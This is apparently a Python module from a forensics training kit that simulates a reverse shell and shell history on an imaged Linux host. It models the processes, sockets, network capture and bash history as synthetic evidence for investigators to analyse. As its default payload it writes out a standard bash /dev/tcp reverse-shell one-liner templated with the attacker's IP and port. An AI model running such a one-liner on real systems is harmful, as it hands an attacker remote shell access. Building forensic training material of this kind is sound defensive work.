"""Shells on an imaged Linux host: commands kept in bash's history, and a reverse shell over the network.

A reverse shell is one story in two media: the victim's `bash -i` holds a TCP socket on fds 0-2 (what
linux.lsof and linux.sockstat show, with the tuple of the flow in the capture), and every command the
attacker types travels in that flow and lands in the shell's in-memory history (linux.bash) at the
time its packet arrived.
"""

from __future__ import annotations

import posixpath
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import TYPE_CHECKING, Any, ClassVar

from pydantic import Field, field_validator

from labkit.evidence.memory.spec import OpenFile
from labkit.story.base import ActionFailed
from labkit.story.memory.action_base import (
    PORT_DESCRIPTION,
    PROCESS_FACTS,
    MemoryAction,
    check_port,
    process_facts,
    render_port,
)
from labkit.story.network.action_base import CONNECTION_FACTS, connection_facts
from labkit.story.network.runtime import StreamEnd, from_us, to_us

if TYPE_CHECKING:
    from labkit.evidence.memory.spec import MemProcess
    from labkit.story.context import StoryContext
    from labkit.story.memory.host import MemoryHost

SHELLS = ("bash", "sh", "dash")


@dataclass
class ReverseSession:
    """An open reverse shell: the connection, the shell process, where it is and whom it prints as."""

    connection: Any
    shell: MemProcess
    user: str
    hostname: str
    home: str
    cwd: str
    oldpwd: str = ""

    @property
    def prompt(self) -> str:
        """Ubuntu's PS1 for a non-root user: ``user@host:~/dir$ ``."""
        shown = self.cwd
        if self.home not in ("/", "") and (self.cwd == self.home or self.cwd.startswith(self.home + "/")):
            shown = "~" + self.cwd[len(self.home) :]
        return f"{self.user}@{self.hostname}:{shown}$ "

    def change_directory(self, line: str) -> None:
        """Follow `cd DIR` at the start of a command line (what the prompt and $PWD show next)."""
        first = line.split("&&")[0].split(";")[0].strip()
        if not (first == "cd" or first.startswith("cd ")):
            return
        target = first[2:].strip() or self.home
        if target == "-":
            target = self.oldpwd or self.cwd
        elif target.startswith("~"):
            target = self.home + target[1:]
        elif not target.startswith("/"):
            target = posixpath.join(self.cwd, target)
        self.oldpwd, self.cwd = self.cwd, posixpath.normpath(target)

    def exported(self, program: str) -> list[str]:
        """The environment bash gives a command it runs (php-fpm cleared everything else)."""
        env = [f"PWD={self.cwd}", "SHLVL=1"]
        if self.oldpwd:
            env.append(f"OLDPWD={self.oldpwd}")
        return [*env, f"_={program}"]


def history_time(when: datetime) -> datetime:
    """bash stores whole seconds since the epoch."""
    return when.replace(microsecond=0)


class ShellCommand(MemoryAction):
    """A command typed into an interactive shell: kept in its history (linux.bash); over a reverse shell
    it also travels in the capture, and the shell's ``output`` comes back."""

    action_name: ClassVar[str] = "shell.command"
    fact_fields: ClassVar[tuple[str, ...]] = ("line", "time", "shell_pid")

    shell: str = Field("admin_shell", description="handle of an interactive bash (or a reverse shell's id)")
    command: str = Field(description="the line as typed (templates allowed)")
    output: str = Field("", description="what the command printed (sent back over a reverse shell)")
    duration: float = Field(
        0.0, ge=0, le=3600, description="seconds the command runs before its output and the next prompt"
    )

    def apply(self, ctx: StoryContext, when: datetime) -> dict[str, Any]:
        host = self.memory(ctx)
        shell = self.process_ref(ctx, self.shell, "shell")
        if shell.comm not in SHELLS:
            raise ActionFailed(f"shell: {self.shell!r} is {shell.comm!r}, not an interactive shell")
        line = ctx.render(self.command)
        if "\n" in line:
            raise ActionFailed("command: one line per shell.command")
        facts: dict[str, Any] = {
            "host": host.host_id,
            "memory": host.image_id,
            "shell_pid": shell.pid,
            "line": line,
        }
        session: ReverseSession | None = host.sessions.get(shell.pid)
        typed_at = when
        if session is not None:
            connection = session.connection
            think = max(0, to_us(when) - connection.now_us)
            sent = connection.send("server", (line + "\n").encode(), think_us=think)
            typed_at = from_us(sent.end_us, UTC)
            output = ctx.render(self.output)
            if output and not output.endswith("\n"):
                output += "\n"
            rng = ctx.rng("shell.command", self.id or line)
            session.change_directory(line)
            reply = (output + session.prompt).encode()
            think = int(self.duration * 1_000_000) + 2_000 + rng.randrange(30_000)
            connection.send("client", reply, think_us=think)
            ctx.network.finished(connection)
        if shell.comm == "bash":
            shell.history.append((history_time(typed_at), line))
        facts["time"] = history_time(typed_at).astimezone(ctx.zone).isoformat()
        return facts


class ShellReverse(MemoryAction):
    """A reverse shell: ``parent`` runs ``sh -c`` which starts `bash -i` with its fds on a TCP connection
    to ``to``:``port`` that stays open (ESTABLISHED in RAM, no FIN in the capture)."""

    action_name: ClassVar[str] = "shell.reverse"
    media: ClassVar[tuple[str, ...]] = ("memory", "network")
    fact_fields: ClassVar[tuple[str, ...]] = (
        *PROCESS_FACTS,
        *CONNECTION_FACTS,
        "socket_inode",
        "state",
        "sh_pid",
        "local_port",
        "remote_ip",
        "remote_port",
        "origin_pid",
        "origin_name",
    )

    to: str = Field(description="host id of the attacker's listener (a host with a network identity)")
    port: int | str = Field(4444, description=PORT_DESCRIPTION)

    _port = field_validator("port")(lambda cls, v: check_port(v))
    parent: str = Field(description="handle of the process that ran the payload (e.g. php_worker)")
    command: str | None = Field(
        None, description="the one-liner run by sh -c; default: bash -c 'bash -i >& /dev/tcp/IP/PORT 0>&1'"
    )
    cwd: str | None = Field(
        None, description="the directory the payload ran in; default /var/www/html for www-data, else home"
    )

    def host_refs(self) -> list[tuple[str, str]]:
        return [("host", self.host), ("to", self.to)]

    def apply(self, ctx: StoryContext, when: datetime) -> dict[str, Any]:
        port = render_port(ctx, self.port)
        if ctx.network is None:
            raise ActionFailed("a reverse shell needs a 'network:' section with a capture point")
        host = self.memory(ctx)
        parent = self.process_ref(ctx, self.parent, "parent")
        runtime = ctx.network
        victim, attacker = runtime.host(self.host), runtime.host(ctx.render(self.to))
        one_liner = (
            ctx.render(self.command)
            if self.command
            else (f"bash -c 'bash -i >& /dev/tcp/{attacker.ipv4}/{port} 0>&1'")
        )
        rng = ctx.rng("shell.reverse", self.id or self.host)
        user = host.account(parent.uid)
        home = host.account(user.uid).home
        cwd = ctx.render(self.cwd) if self.cwd else ("/var/www/html" if user.name == "www-data" else home)
        when = when + timedelta(microseconds=rng.randrange(1_000, 900_000))
        sh = host.spawn(
            parent=parent,
            command=["sh", "-c", one_liner],
            user=user,
            when=when,
            exe="/usr/bin/dash",
            comm="sh",
            env=[e for e in parent.env],
        )
        # bash -c forks from sh, opens the socket for its redirection, then execs bash -i in place.
        start = when + timedelta(microseconds=rng.randrange(2_000, 12_000))
        opened = start + timedelta(microseconds=rng.randrange(1_000, 5_000))
        connection = runtime.tcp(
            victim,
            attacker,
            port,
            to_us(opened) + 100 + rng.randrange(800),
            f"shell.reverse:{self.id}:{self.host}",
        )
        connection.connect()
        socket = host.socket(
            opened,
            family="AF_INET",
            type="STREAM",
            state="ESTABLISHED",
            local_addr=str(victim.ipv4),
            local_port=connection.client_port,
            remote_addr=str(attacker.ipv4),
            remote_port=port,
        )
        session = ReverseSession(connection, None, user.name, host.hostname, home, cwd)  # type: ignore[arg-type]
        shell = host.spawn(
            parent=sh,
            command=["bash", "-i"],
            user=user,
            when=start,
            exe="/usr/bin/bash",
            comm="bash",
            handle=self.id,
            env=[*parent.env, *session.exported("/usr/bin/bash")],
            fds=[
                OpenFile(0, socket=socket.inode),
                OpenFile(1, socket=socket.inode),
                OpenFile(2, socket=socket.inode),
                OpenFile(255, socket=socket.inode),
            ],
        )
        session.shell = shell
        # bash reports the process group it inherited: the service's main process (php-fpm's master).
        group = parent
        while group.ppid not in (0, 1) and group.ppid in host.processes:
            group = host.processes[group.ppid]
        banner = (
            f"bash: cannot set terminal process group ({group.pid}): Inappropriate ioctl for device\n"
            "bash: no job control in this shell\n" + session.prompt
        )
        connection.send("client", banner.encode(), think_us=4_000 + rng.randrange(20_000))
        runtime.finished(connection)
        host.sessions[shell.pid] = session
        facts = process_facts(host, shell)
        facts.update(
            connection_facts(runtime, connection, victim, attacker),
            first_frame=connection.sessions[0].syn,
            last_frame=StreamEnd(connection.stream),
            started=from_us(connection.sessions[0].syn.ts_us, ctx.zone).isoformat(),
            socket_inode=socket.inode,
            state="ESTABLISHED",
            sh_pid=sh.pid,
            local_port=connection.client_port,
            remote_ip=str(attacker.ipv4),
            remote_port=port,
            origin_pid=parent.pid,
            origin_name=parent.comm,
        )
        facts.pop("finished", None)
        return facts

    def media_used(self) -> tuple[str, ...]:
        return ("memory", "network")


def reverse_session(host: MemoryHost, pid: int) -> ReverseSession | None:
    return host.sessions.get(pid)
